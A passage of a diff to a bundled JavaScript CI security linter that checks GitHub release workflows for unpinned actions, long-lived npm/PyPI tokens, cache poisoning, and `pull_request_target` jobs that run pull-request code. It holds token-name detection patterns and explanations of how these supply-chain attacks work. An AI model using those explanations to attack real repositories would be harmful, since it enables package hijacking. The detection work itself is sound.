+    why: 'A version on npm or PyPI cannot be replaced: publishing before the tests pass (or while they still run) ships whatever the commit holds, and the only way back is a yank and a new version. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the publish). An upload to TestPyPI from a workflow no release starts, or of a package the job makes (`uv init`), is itself a test and is not reported.',
     fix: 'Make the publishing job `needs:` the test job, or run the tests in a job it needs.',
     bad: `on: { release: { types: [published] } }
 permissions: {}
@@ -1063,7 +1628,9 @@ jobs:
             for (const job of workflow.jobs) {
                 if (jobGatedByAnotherWorkflow(job))
                     continue;
-                const publish = facts.jobPublishes(job).find((each) => !facts.testedBefore(job, each.step));
+                const publish = facts
+                    .jobPublishes(job)
+                    .find((each) => !facts.testedBefore(job, each.step) && !testPypiFixture(job, each, facts));
                 if (!publish || tagged.get(job)?.step === publish.step)
                     continue;
                 reportUntested(report, job, facts, publish, {
@@ -1651,7 +2218,7 @@ const cacheInPublishJob = {
     id: 'cache-in-publish-job',
     severity: 'warning',
     title: 'The job that publishes restores a cache.',
-    why: "Caches are shared by the repository's workflows: a cache written by a compromised step anywhere on the default branch (a `pull_request_target` or `issue_comment` workflow, a dependency's install script) is restored into the job that can publish, and its code runs there (cache poisoning).",
+    why: "Caches are shared by the repository's workflows: a cache written by a compromised step anywhere on the default branch (a `pull_request_target` or `issue_comment` workflow, a dependency's install script) is restored into the job that can publish, and its code runs there (cache poisoning). actions/cache whose every key and restore key holds `github.run_id` is not reported (only this run can have saved it), and a composite action's `cache:` is read with the inputs its caller passes.",
     fix: 'Remove `cache:` (and actions/cache) from the publishing job; build in another job and hand the packages over with upload-artifact and download-artifact.',
     bad: `on: { workflow_dispatch: {} }
 permissions: {}
@@ -1822,7 +2389,7 @@ const unpinnedAction = {
     id: 'unpinned-action',
     severity: 'warning',
     title: 'A release workflow uses a third-party action (or reusable workflow) by tag or branch, not by commit SHA.',
-    why: "A tag or branch moves whenever its owner (or whoever takes over the account) pushes it: the next release runs that code, in the workflow that holds the publish permission. Commit SHAs do not move. Actions of `actions/*` and `github/*` (GitHub's own), local actions, and this repository's own actions by name (`owner/<this repository>/path@v1`, when `path` is here) are not reported.",
+    why: "A tag or branch moves whenever its owner (or whoever takes over the account) pushes it: the next release runs that code, in the workflow that holds the publish permission. Commit SHAs do not move. A job that holds `id-token: write` is said to be able to mint a publish token only in a workflow that publishes (or one such a workflow calls): npm's and PyPI's trusted publishers name one workflow file, and refuse a token minted in any other; a workflow that neither releases nor is called by one that publishes is not reported. Actions of `actions/*` and `github/*` (GitHub's own), local actions, and this repository's own actions by name (`owner/<this repository>/path@v1`, when `path` is here) are not reported.",
     fix: 'Pin the full commit SHA and keep the version as a comment (`uses: owner/action@<40-hex sha> # v1.2.3`); Dependabot and Renovate keep such pins current.',
     bad: `on: { workflow_dispatch: {} }
 permissions: {}
@@ -1850,8 +2417,11 @@ jobs:
 `,
     check({ repository, facts, report }) {
         for (const workflow of repository.workflows) {
+            // npm's and PyPI's trusted publishers name one workflow file: a token minted in a workflow
+            // that neither publishes nor is called by one that does is refused by the registry.
+            const mints = facts.publishesInWorkflow(workflow) || calledByPublisher(workflow, repository, facts);
             const release = facts.isReleaseWorkflow(workflow) ||
-                workflow.jobs.some((job) => (0,source_model/* jobGrantsIdToken */.Bb)(job) === true);
+                (mints && workflow.jobs.some((job) => (0,source_model/* jobGrantsIdToken */.Bb)(job) === true));
             if (!release)
                 continue;
             for (const job of workflow.jobs) {
@@ -1866,7 +2436,7 @@ jobs:
                     const why = unpinned(uses, repository);
                     if (!why)
                         continue;
-                    report(node, `\`${uses}\` runs whatever ${why} points to on the day of the release (its owner, or whoever takes over the account, can move it)${powers(job)}.`, {
+                    report(node, `\`${uses}\` runs whatever ${why} points to on the day of the release (its owner, or whoever takes over the account, can move it)${powers(job, mints)}.`, {
                         fix: `Pin the commit SHA that ${uses.split('@')[1] ?? 'the version you use'} points to today, and keep the version as a comment: \`uses: ${uses.split('@')[0]}@<40-hex sha> # ${uses.split('@')[1] ?? 'version'}\`.`,
                     });
                 }
@@ -1874,10 +2444,21 @@ jobs:
         }
     },
 };
-function powers(job) {
-    if ((0,source_model/* jobGrantsIdToken */.Bb)(job) === true)
+function powers(job, mints) {
+    if (mints && (0,source_model/* jobGrantsIdToken */.Bb)(job) === true)
         return `, in job "${job.id}", which can mint a publish token`;
     return `, in a workflow that releases`;
+}
+/** Whether a workflow that publishes calls `workflow` (directly, or through other reusable ones). */
+function calledByPublisher(workflow, repository, facts, seen = new Set([workflow])) {
+    for (const caller of repository.workflows) {
+        if (seen.has(caller) || !caller.jobs.some((job) => job.called === workflow))
+            continue;
+        seen.add(caller);
+        if (facts.publishesInWorkflow(caller) || calledByPublisher(caller, repository, facts, seen))
+            return true;
+    }
+    return false;
 }
 const missingLocalReference = {
     id: 'missing-local-reference',
@@ -1926,26 +2507,94 @@ jobs:
 
 
 
+
+
 const TOKEN_SECRET = /(npm|pypi|twine|node_auth)/i;
+const PROXY_OPTIONS = {
+    severity: 'note',
+    fix: 'Check what this token can do on that registry or proxy and keep it in an environment only the publishing job uses; if the service accepts short-lived credentials (OIDC), use those instead.',
+};
 /** Inputs that take a token the suite accepts on purpose (npm's OIDC cannot deprecate). */
 const ALLOWED_TOKEN_INPUTS = new Set(['npm-deprecate-token']);
 function registryOfName(name) {
     return /pypi|twine|uv_publish|poetry|hatch|flit|maturin|pdm/i.test(name) ? 'PyPI' : 'npm';
 }
-function walk(node, visit, key) {
-    visit(node, key);
+function walk(node, places, visit, key, place = {}) {
+    const here = (node.node && places.get(node.node)) || place;
+    if (here.job && (0,job_conditions/* neverRuns */.Z$)(here.job))
+        return;
+    visit(node, key, here);
     if (node.isMap())
         for (const [name, value] of node.entries())
-            walk(value, visit, name);
+            walk(value, places, visit, name, here);
     else if (node.isSeq())
         for (const item of node.items())
-            walk(item, visit);
+            walk(item, places, visit, undefined, here);
+}
+/** The jobs and steps of the workflows read from `file`, by their YAML node. */
+function placesIn(workflows, file) {
+    const places = new Map();
+    for (const workflow of workflows) {
+        if (workflow.file !== file)
+            continue;
+        for (const job of workflow.jobs) {
+            places.set(job.node.node, { job });
+            for (const step of job.steps)
+                if (!step.via)
+                    places.set(step.node.node, { job, step });
+        }
+    }
+    return places;
+}
+const LOCAL_HOST = /^(localhost|127\.[\d.]+|0\.0\.0\.0|\[::1\]|::1)$/i;
+/**
+ * The upload goes to a server of the job itself: localhost, or a service container (by its name,
+ * or through `job.services.<name>.ports`): a password for it is no registry token.
+ */
+function uploadsToLocalServer(place) {
+    const { job, step } = place;
+    if (!job)
+        return false;
+    const env = step ? (0,step_kinds/* stepEnv */.WH)(step) : new Map();
+    if (!step)
+        for (const [name, value] of job.env?.entries() ?? [])
+            env.set(name, value);
+    const urls = [
+        ...['TWINE_REPOSITORY_URL', 'UV_PUBLISH_URL', 'PDM_PUBLISH_REPO', 'MATURIN_REPOSITORY_URL'].map((name) => env.get(name)?.str()),
+        ...['repository-url', 'repository_url'].map((name) => step?.with?.get(name)?.str()),
+    ].filter((url) => url !== undefined);
+    const services = new Set(job.node
+        .get('services')
+        ?.entries()
+        .map(([name]) => name) ?? []);
+    return urls.some((url) => {
+        const host = /^\s*https?:\/\/([^/:]+|\[[^\]]+\])/i.exec(url)?.[1];
+        return (host !== undefined &&
+            (LOCAL_HOST.test(host) || services.has(host) || /job\.services\./.test(url)));
+    });
+}
+/** setup-node's `registry-url` in the job, when it names a registry other than npm's. */
+function otherNpmRegistry(place) {
+    if (!place.job)
+        return undefined;
+    const found = setupNodeSteps(place.job)
+        .map((setup) => setup.with?.get('registry-url'))
+        .filter((url) => url !== undefined && url.str() !== undefined);
+    if (found.length === 0)
+        return undefined;
+    if (found.some((url) => url.str().includes('${{') || (0,src_registries/* registryOfUrl */.S6)(url.str()) === 'npm'))
+        return undefined;
+    return { url: found[0].str().trim(), line: found[0].pos().line };
+}
+/** `<what> <url>, the registry setup-node's registry-url names...`: what the token is for. */
+function proxyTokenMessage(what, registry) {
+    return `${what} ${registry.url}, the registry setup-node's \`registry-url\` names (line ${registry.line}), not registry.npmjs.org: it is that registry's (or publish proxy's) token, not an npm token, and what it can do is what that service lets it do.`;
 }
 const longLivedToken = {
     id: 'long-lived-token',
     severity: 'error',
     title: 'A long-lived registry token is used (NPM_TOKEN, NODE_AUTH_TOKEN, PYPI_API_TOKEN, TWINE_PASSWORD, an .npmrc `_authToken`).',
-    why: 'A registry token lives until someone revokes it: when it expires or is rotated, npm answers the publish with E404 Not Found (not an auth error) and the release dies looking like a missing package; while it lives, any step that can read it (a test dependency, an action) can copy it and publish anything, from anywhere.',
+    why: "A registry token lives until someone revokes it: when it expires or is rotated, npm answers the publish with E404 Not Found (not an auth error) and the release dies looking like a missing package; while it lives, any step that can read it (a test dependency, an action) can copy it and publish anything, from anywhere. A token for another registry or publish proxy (setup-node's `registry-url` is not registry.npmjs.org) is reported as a note; a password for a server of the job itself (localhost, a service container) and tokens in a job that can never run (it requires a tag ref no trigger gives) are not reported.",
     fix: 'Register a trusted publisher on the registry (npm: package settings → Trusted publishing; PyPI: project → Publishing) for this repository, workflow file and environment; give the publish job `id-token: write`; remove the token from the workflow and delete the secret.',
     bad: `on: { release: { types: [published] } }
 permissions: {}
@@ -1977,27 +2626,37 @@ jobs:
 `,
     check({ repository, report }) {
         for (const file of repository.files) {
+            const places = placesIn(repository.workflows, file);
             for (const document of file.documents) {
                 const reported = new Set();
-                const once = (node, needle, message) => {
+                const once = (node, needle, message, options = {}) => {
                     const position = needle === undefined ? node.pos() : node.find(needle);
                     const key = `${position.line}:${position.column}`;
                     if (reported.has(key))
                         return;
                     reported.add(key);
-                    report(node, message, { needle });
+                    report(node, message, { needle, ...options });
                 };
-                walk(document, (node, key) => {
+                walk(document, places, (node, key, place) => {
                     const text = node.str();
                     if (text === undefined || (key !== undefined && ALLOWED_TOKEN_INPUTS.has(key)))
                         return;
+                    const local = () => uploadsToLocalServer(place);
+                    const proxy = () => otherNpmRegistry(place);
                     // A token variable set from a secret or a literal: `NODE_AUTH_TOKEN: ${{ secrets.X }}`.
                     if (key !== undefined &&
                         (0,step_kinds/* isTokenVariable */.U_)(key) &&
                         text.trim() !== '' &&
                         !(0,step_kinds/* isGithubToken */.VH)(text)) {
+                        if (local())
+                            return;
                         const literal = (0,expressions/* scanExpressions */.BX)(text).found.length === 0 && !/^\$/.test(text.trim());
                         const registry = registryOfName(key);
+                        const other = registry === 'npm' && !literal ? proxy() : undefined;
+                        if (other) {
+                            once(node, undefined, proxyTokenMessage(`${key} hands a long-lived token (${text.trim()}) to`, other), PROXY_OPTIONS);
+                            return;
+                        }
                         once(node, undefined, literal
                             ? `${key} is set to a literal value: a ${registry} token written into the workflow file is readable by anyone who can read the repository, and it stops working (E404 on npm's upload, 403 on PyPI's) the day it expires or is revoked.`
                             : `${key} hands a long-lived ${registry} token (${text.trim()}) to the publish. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}; while it lives, any step that can read it can publish anything.`);
@@ -2010,6 +2669,11 @@ jobs:
                             if (!secret || !TOKEN_SECRET.test(secret) || /github/i.test(secret))
                                 continue;
                             const registry = registryOfName(secret);
+                            const other = registry === 'npm' ? proxy() : undefined;
+                            if (other) {
+                                once(node, span.text, proxyTokenMessage(`${span.text} is a long-lived token for`, other), PROXY_OPTIONS);
+                                continue;
+                            }
                             once(node, span.text, `${span.text} is a long-lived ${registry} token. When it expires or is revoked, ${registry === 'npm' ? 'npm answers the upload with E404 Not Found, not an auth error' : 'PyPI answers 403 "Invalid or non-existent authentication information"'}, and the release dies halfway; while it lives, any step that can read it can copy it and publish anything.`);
                         }
                     }
@@ -2130,6 +2794,49 @@ function nodeVersionOf(spec) {
         exact: minor !== undefined,
     };
 }
+/** Whether the npm a Node version bundles is older than 11.5.1 (Node below 24.5). */
+function npmTooOldFor(version) {
+    if (version === 'new')
+        return false;
+    return version.major < 24 || (version.major === 24 && version.exact && version.minor < 5);
+}
+/** Setup actions that install tools but not Node (or not by default). */
+const NOT_NODE_SETUP = /^(actions\/setup-(?!node$)[\w-]+|pnpm\/action-setup|astral-sh\/setup-uv)$/;
+/**
+ * A remote action (not in this repository) that may set up Node: one whose name says it sets
+ * up tools (`org/config/.github/setup`, `volta-cli/action`), other than those known not to.
+ */
+function setsUpToolsRemotely(step) {
+    const uses = step.uses;
+    if (uses === undefined || step.via || /^(\.|\$\/|docker:\/\/)/.test(uses))
+        return false;
+    const name = (0,source_model/* actionName */.aM)(uses);
+    if (name === 'actions/setup-node' || NOT_NODE_SETUP.test(name))
+        return false;
+    return /setup|volta|mise|asdf|proto|toolchain/i.test(name);
+}
+/** The Node version the repository pins: .nvmrc, .node-version, or package.json's volta.node. */
+function pinnedNodeVersion(files) {
+    for (const file of ['.nvmrc', '.node-version']) {
+        const spec = files
+            .read(file)
+            ?.split('\n')
+            .map((line) => line.replace(/#.*/, '').trim())
+            .find((line) => line !== '');
+        if (spec !== undefined)
+            return { file, spec };
+    }
+    try {
+        const manifest = JSON.parse(files.read('package.json') ?? '{}');
+        const spec = manifest.volta?.node;
+        if (typeof spec === 'string')
+            return { file: 'package.json (volta.node)', spec };
+    }
+    catch {
+        // not JSON: nothing pinned there
+    }
+    return undefined;
+}
 /** An `npm install -g npm@<version>` (or `npx npm@x`) giving npm >= 11.5.1. */
 function upgradesNpm(step, scripts) {
     return (0,step_kinds/* stepCommands */.Bs)(step, scripts).some((command) => {
@@ -2157,7 +2864,7 @@ const npmTooOld = {
     id: 'npm-too-old',
     severity: 'error',
     title: 'npm publishes through trusted publishing with an npm older than 11.5.1 (Node below 22.14, or Node 22 without an npm upgrade).',
-    why: "npm does the OIDC exchange only from 11.5.1 on; Node 22 and older bundle npm 10, and the runner's own Node is 20. An older npm never tries OIDC and the publish fails with ENEEDAUTH or E404, nothing about OIDC in the log. npm documents Node 22.14 as the minimum for trusted publishing.",
+    why: "npm does the OIDC exchange only from 11.5.1 on; Node 22 and older bundle npm 10, and the runner's own Node is 20. An older npm never tries OIDC and the publish fails with ENEEDAUTH or E404, nothing about OIDC in the log. npm documents Node 22.14 as the minimum for trusted publishing. When no setup-node runs but a remote action that sets up tools does, the Node the repository pins (.nvmrc, .node-version, package.json `volta.node`) decides: a note when its npm is too old, nothing when it is new enough or nothing is pinned.",
     fix: 'Use `node-version: 24` in setup-node, or add `run: npm install -g npm@^11.5.1` before the publish (on Node 22.14 or later).',
     bad: `on: { workflow_dispatch: {} }
 permissions: {}
@@ -2207,6 +2914,20 @@ jobs:
                 if (!setup) {
                     if (upgraded)
                         continue;
+                    const remote = before.find((step) => setsUpToolsRemotely(step));
+                    if (remote) {
+                        // The action may install Node: what the repository pins says which, if anything.
+                        const pinned = pinnedNodeVersion(repository.scriptFiles);
+                        const version = pinned && nodeVersionOf(pinned.spec);
+                        if (!pinned || version === undefined || !npmTooOldFor(version))
+                            continue;
+                        report(job.node, `Job "${job.id}" publishes through trusted publishing (${publish.tool}, line ${line}) after \`${remote.uses}\` (line ${(0,rule/* stepAnchor */.AK)(remote).pos().line}) sets up its tools, which doctor cannot read: if it installs the Node that ${pinned.file} names (${pinned.spec}), that Node's npm is older than 11.5.1, never tries OIDC, and the publish fails with ENEEDAUTH or E404.`, {
+                            key: true,
+                            severity: 'note',
+                            fix: `Pin Node 24 or later in ${pinned.file}, or add \`run: npm install -g npm@^11.5.1\` before the publish.`,
+                        });
+                        continue;
+                    }
                     report(job.node, `Job "${job.id}" publishes through trusted publishing (${publish.tool}, line ${line}) with the runner's own Node and npm (Node 20 with npm 10 on ubuntu-latest): npm before 11.5.1 never tries OIDC, so the publish fails with ENEEDAUTH or E404.`, {
                         key: true,
                         fix: 'Add actions/setup-node with `node-version: 24` before the publish (or `run: npm install -g npm@^11.5.1` on Node 22.14 or later).',
@@ -2240,9 +2961,16 @@ jobs:
     },
 };
 
+// EXTERNAL MODULE: ./packages/release-tools/src/commands.ts
+var src_commands = __webpack_require__(26833);
+// EXTERNAL MODULE: ./packages/release-tools/src/shell-commands.ts
+var shell_commands = __webpack_require__(59160);
 ;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/triggers.ts
 // When a release workflow runs: triggers that never fire or fire too often, runs that race or
 // cancel each other, and pull_request_target running a pull request's code.
+
+
+
 
 
 /** The node to point at for an event of `on:`; `key` when the event is a map key. */
@@ -2419,11 +3147,133 @@ jobs:
     },
 };
 const PR_HEAD = /^github\.(event\.pull_request\.head\.|head_ref$)/;
+const FETCHES_PR = /\b(gh pr checkout|git (checkout|fetch)\b.*(pull\/|head_ref|pull_request\.head))/;
+/**
+ * Commands that only read or move files, talk to git or GitHub, or print: run in a pull
+ * request's tree, they execute none of it.
+ */
+const INERT = new Set('git gh echo printf cat head tail ls pwd cd pushd popd test [ [[ true false : exit set export unset shopt mkdir rmdir cp mv rm touch ln chmod jq yq grep egrep fgrep sed awk sort uniq wc cut tr tee diff cmp comm find basename dirname realpath readlink date sleep tar zip unzip gzip gunzip xz sha1sum sha256sum sha512sum md5sum base64 curl wget stat file du df whoami id hostname printenv'.split(' '));
+/** Programs that run the file named by their first operand. */
+const INTERPRETERS = /^(python[\d.]*|py|node|deno|bun|bash|sh|zsh|dash|ksh|ruby|perl|php|pwsh|powershell|tsx|ts-node|source|\.)$/;
+/** Options that name the directory a tool works in (`make -C dir`, `npm --prefix dir`). */
+const DIRECTORY_OPTIONS = new Set([
+    '-C',
+    '--prefix',
+    '--cwd',
+    '--dir',
+    '--directory',
+    '--project',
+    '--manifest-path',
+    '--working-directory',
+]);
+/** A folder as a plain relative path (`./a/b/` → `a/b`; the workspace root → ''). */
+function folder(path) {
+    const normal = external_node_path_.posix.normalize((path ?? '').trim().replace(/^\$\{\{\s*github\.workspace\s*\}\}\/?/, ''));
+    return normal === '.' || normal === './' ? '' : normal.replace(/^\.\//, '').replace(/\/+$/, '');
+}
+/** Whether `path` (a relative path as written) is `dir` or inside it. */
+function inside(path, dir) {
+    const normal = folder(path);
+    if (normal.startsWith('/') || normal.startsWith('..'))
+        return false;
+    return dir === '' || normal === dir || normal.startsWith(`${dir}/`);
+}
+/** The working directory of a `run:` step: its own, or the job's or the workflow's default. */
+function workingDirectory(step, job) {
+    const own = step.node.get('working-directory')?.str();
+    if (own !== undefined || step.via)
+        return own;
+    const defaults = (node) => node?.get('defaults')?.get('run')?.get('working-directory')?.str();
+    return defaults(job.node) ?? defaults(job.workflow.node);
+}
+/** The command, of those given, that runs code from the pull request's tree in `dir`. */
+function executingCommand(commands, dir, startInside) {
+    let within = startInside;
+    for (const command of commands) {
+        const words = command.words;
+        const first = words[0] ?? '';
+        if (first === 'cd' || first === 'pushd') {
+            const target = words.slice(1).find((word) => !word.startsWith('-'));
+            if (target !== undefined)
+                within = inside(target, dir);
+            continue;
+        }
+        if (within && !INERT.has(first))
+            return command;
+        if (first.includes('/') && inside(first, dir))
+            return command;
+        if (INERT.has(first))
+            continue;
+        const tool = (0,src_commands/* toolWords */.yy)(words);
+        if (INTERPRETERS.test(tool[0] ?? '')) {
+            const script = tool.slice(1).find((word) => !word.startsWith('-'));
+            if (script !== undefined && script.includes('/') && inside(script, dir))
+                return command;
+        }
+        for (let index = 1; index < words.length; index++) {
+            const word = words[index];
+            const [option, value] = word.includes('=') ? word.split('=', 2) : [word, words[index + 1]];
+            if (DIRECTORY_OPTIONS.has(option) && value !== undefined && inside(value, dir))
+                return command;
+        }
+        if (/^(install|add|i|wheel|build|sync)$/.test(tool[1] ?? '') || tool[0] === 'pip')
+            if (tool.slice(2).some((word) => /^(\.|\.\.)?\//.test(word) && inside(word, dir)))
+                return command;
+    }
+    return undefined;
+}
+/** A step of `job` after `from` (or, for a `run:` that fetches it, its own later commands) that runs the tree checked out into `dir`. */
+function executesCheckout(job, from, dir, otherFolders, facts, restOfScript) {
+    const where = (step) => `line ${(0,rule/* stepAnchor */.AK)(step).pos().line}`;
+    const startsInside = (step) => {
+        const wd = workingDirectory(step, job);
+        if (wd === undefined)
+            return dir === '';
+        if (otherFolders.some((other) => other !== '' && inside(wd, other)))
+            return false;
+        return inside(wd, dir);
+    };
+    const own = executingCommand(restOfScript, dir, startsInside(from));
+    if (own)
+        return `\`${(0,rule/* truncate */.xv)(own.text, 60)}\`, ${where(from)}`;
+    for (const step of job.steps.slice(job.steps.indexOf(from) + 1)) {
+        const local = (0,source_model/* localPath */.$S)(step.uses);
+        if (local !== undefined && !(0,source_model/* isSelfRepositoryRef */.g5)(step.uses) && inside(local, dir))
+            return `the local action \`${step.uses}\`, ${where(step)}`;
+        if (step.run !== undefined) {
+            const command = executingCommand((0,shell_commands/* commandsIn */.G)(step.run), dir, startsInside(step));
+            if (command)
+                return `\`${(0,rule/* truncate */.xv)(command.text, 60)}\`, ${where(step)}`;
+        }
+        else if (step.uses !== undefined && local === undefined) {
+            const runs = facts.tests(step) ?? facts.build(step);
+            const into = (step.with?.entries() ?? []).some(([, value]) => {
+                const text = value.str();
+                return text !== undefined && /^\.?\.?\//.test(text) && inside(text, dir);
+            });
+            if (runs !== undefined && (dir === '' || into))
+                return `\`${step.uses}\`, which runs \`${(0,rule/* truncate */.xv)(runs, 40)}\`, ${where(step)}`;
+        }
+    }
+    return undefined;
+}
+/** A step of a release workflow that restores a cache, if any. */
+function releaseCache(repository, facts) {
+    for (const workflow of repository.workflows) {
+        if (!facts.isReleaseWorkflow(workflow))
+            continue;
+        for (const job of workflow.jobs)
+            for (const step of job.steps)
+                if ((0,step_kinds/* cacheOf */.w7)(step))
+                    return { step, workflow };
+    }
+    return undefined;
+}
 const pullRequestTargetCheckout = {
     id: 'pull-request-target-checkout',
     severity: 'error',
     title: "`pull_request_target` checks out the pull request's code.",
-    why: "`pull_request_target` runs with the base repository's secrets and a writable GITHUB_TOKEN, and can write the caches a release restores. Checking out the pull request's head there runs a stranger's code (its install scripts, tests, build) with all of that.",
+    why: "`pull_request_target` runs with the base repository's secrets and a writable GITHUB_TOKEN, and can write the caches a release restores. Checking out the pull request's head there and then running anything from it (its install scripts, tests, build, a local action) runs a stranger's code with all of that: an error. A checkout nothing in the job runs is a warning when it fills the workspace (one step added later is enough), and a note when it sits in a folder of its own that no step runs anything from (read as data, such as documentation handed to a site builder).",
     fix: 'Run anything that builds or tests the pull request under `pull_request` (no secrets, read-only token); keep `pull_request_target` for labels and comments, without checking out the head.',
     bad: `on: pull_request_target
 permissions: { contents: read }
@@ -2445,11 +3295,36 @@ jobs:
       - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
       - run: npm ci && npm test
 `,
-    check({ repository, report }) {
+    check({ repository, facts, report }) {
+        let cache = null;
+        const poison = () => {
+            if (cache === null)
+                cache = releaseCache(repository, facts);
+            if (!cache)
+                return '';
+            return `, and can poison the caches the release restores (${cache.step.uses ?? 'a cache'} in ${cache.workflow.file.rel}:${(0,rule/* stepAnchor */.AK)(cache.step).pos().line})`;
+        };
         for (const workflow of repository.workflows) {
             if (!workflow.events.has('pull_request_target'))
                 continue;
             for (const job of workflow.jobs) {
+                const folders = job.steps
+                    .filter((step) => (0,source_model/* actionName */.aM)(step.uses) === 'actions/checkout')
+                    .map((step) => folder(step.with?.get('path')?.str()));
+                const judge = (step, node, does, dir, rest, options) => {
+                    const others = folders.filter((each) => each !== dir);
+                    const runs = executesCheckout(job, step, dir, others, facts, rest);
+                    const head = `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and ${does} in job "${job.id}"`;
+                    if (runs) {
+                        report(node, `${head}, then runs it (${runs}): anyone who opens a pull request runs their code here${poison()}.`, options);
+                    }
+                    else if (dir === '') {
+                        report(node, `${head}, into the workspace. No later step of the job installs, builds, tests or runs anything from it, so today it is only read; but any step added after it that does runs a stranger's code with those secrets.`, { ...options, severity: 'warning' });
+                    }
+                    else {
+                        report(node, `${head}, into \`${dir}\`, and no later step runs anything from that folder: it is only read, as data. A step that installs, builds or runs code from \`${dir}\` would run a stranger's code with those secrets.`, { ...options, severity: 'note' });
+                    }
+                };
                 for (const step of job.steps) {
                     const checkout = (0,source_model/* actionName */.aM)(step.uses) === 'actions/checkout';
                     const inputs = checkout ? [step.with?.get('ref'), step.with?.get('repository')] : [];
@@ -2459,18 +3334,19 @@ jobs:
                             continue;
                         if ((0,context_references/* contextReferences */.Q)(text).some((path) => PR_HEAD.test(path)) ||
                             /refs\/pull\//.test(text)) {
-                            report(step.via ? (0,rule/* stepAnchor */.AK)(step) : input, `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and checks out the pull request's code (\`${text}\`) in job "${job.id}": anyone who opens a pull request runs their code here, and can poison the caches the release restores.`, { key: !step.via });
+                            judge(step, step.via ? (0,rule/* stepAnchor */.AK)(step) : input, `checks out the pull request's code (\`${text}\`)`, folder(step.with?.get('path')?.str()), [], { key: !step.via });
                             break;
                         }
                     }
                     const run = step.run;
-                    if (run &&
-                        /\b(gh pr checkout|git (checkout|fetch)\b.*(pull\/|head_ref|pull_request\.head))/.test(run)) {
+                    if (run && FETCHES_PR.test(run)) {
                         const line = run
                             .split('\n')
                             .find((each) => /gh pr checkout|git (checkout|fetch)/.test(each))
                             .trim();
-                        report(step.via ? (0,rule/* stepAnchor */.AK)(step) : step.runNode, `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and fetches the pull request's code in job "${job.id}": anyone who opens a pull request runs their code here.`, { needle: step.via ? undefined : line });
+                        const commands = (0,shell_commands/* commandsIn */.G)(run);
+                        const at = commands.findIndex((command) => FETCHES_PR.test(command.text));
+                        judge(step, step.via ? (0,rule/* stepAnchor */.AK)(step) : step.runNode, "fetches the pull request's code", folder(workingDirectory(step, job)), at < 0 ? [] : commands.slice(at + 1), { needle: step.via ? undefined : line });
                     }
                 }
             }
@@ -2637,16 +3513,22 @@ jobs:
 const CONCLUSION_SUCCESS = /github\.event\.workflow_run\.conclusion\s*==\s*'success'|'success'\s*==\s*github\.event\.workflow_run\.conclusion/;
 /** Whether the job, a job it waits for, or the step checks that the upstream run succeeded. */
 function checksUpstreamSuccess(job, step) {
-    const conditions = [job, ...(0,source_model/* upstreamJobs */.oZ)(job)].map((each) => each.if?.str() ?? '');
+    const chain = [job, ...(0,source_model/* upstreamJobs */.oZ)(job)];
+    const conditions = chain.map((each) => each.if?.str() ?? '');
     if (step)
         conditions.push(step.if?.str() ?? '', step.via?.if?.str() ?? '');
-    return conditions.some((condition) => CONCLUSION_SUCCESS.test(condition));
+    if (conditions.some((condition) => CONCLUSION_SUCCESS.test(condition)))
+        return true;
+    // A gate job (one this job waits for) whose script reads the conclusion and sets an output
+    // that the `if:` of this job, or of a job between, reads through `needs`.
+    return (0,source_model/* upstreamJobs */.oZ)(job).some((gate) => gate.steps.some((each) => (0,context_references/* contextReferences */.Q)(each.run ?? '').includes('github.event.workflow_run.conclusion')) &&
+        conditions.some((condition) => (0,context_references/* contextReferences */.Q)(condition, 'expression').some((path) => path.startsWith(`needs.${gate.id}.outputs.`))));
 }
 const workflowRunUnchecked = {
     id: 'workflow-run-unchecked',
     severity: 'error',
     title: 'A publish started by `workflow_run` does not check that the upstream run succeeded (it publishes after failed CI).',
-    why: "`workflow_run` with `types: [completed]` starts the workflow whenever the upstream workflow ends, whatever its conclusion: failed, cancelled or skipped runs trigger it too. A publishing job that does not check `github.event.workflow_run.conclusion == 'success'` releases the commit whose tests just failed.",
+    why: "`workflow_run` with `types: [completed]` starts the workflow whenever the upstream workflow ends, whatever its conclusion: failed, cancelled or skipped runs trigger it too. A publishing job that does not check `github.event.workflow_run.conclusion == 'success'` releases the commit whose tests just failed. A check in the script of a job it needs counts when the publishing job's `if:` (or that of a job between) reads that job's outputs.",
     fix: "Add `if: github.event.workflow_run.conclusion == 'success'` to the publishing job (or to a job it needs); with other triggers too: `if: github.event_name != 'workflow_run' || github.event.workflow_run.conclusion == 'success'`.",
     bad: `on:
   workflow_run:
@@ -2703,6 +3585,7 @@ jobs:
 
 
 
+
 const RULES = [
     publishWithoutEnvironment,
     idTokenAtWorkflowLevel,
@@ -2722,6 +3605,7 @@ const RULES = [
     pullRequestTargetCheckout,
     releaseWithoutConcurrency,
     releaseCancelInProgress,
+    eventFieldMissing,
     phantomVersion,
     releaseTriggerTypes,
     publishNotRerunnable,
@@ -2746,6 +3630,7 @@ const RULES = [
 /* harmony export */   SX: () => (/* binding */ tagCreationsOf),
 /* harmony export */   U_: () => (/* reexport safe */ _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_1__.U_),
 /* harmony export */   VH: () => (/* reexport safe */ _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__.VH),
+/* harmony export */   WH: () => (/* binding */ stepEnv),
 /* harmony export */   XP: () => (/* binding */ commits),
 /* harmony export */   ZU: () => (/* binding */ publishesOf),
 /* harmony export */   cS: () => (/* binding */ setRepositoryFiles),
@@ -2754,11 +3639,13 @@ const RULES = [
 /* harmony export */   w7: () => (/* binding */ cacheOf),
 /* harmony export */   zt: () => (/* binding */ versionComputedBy)
 /* harmony export */ });
-/* unused harmony export stepEnv */
+/* unused harmony export actionInputValue */
 /* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(26833);
 /* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(95825);
 /* harmony import */ var _tokenless_release_tools__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(68449);
-/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(28154);
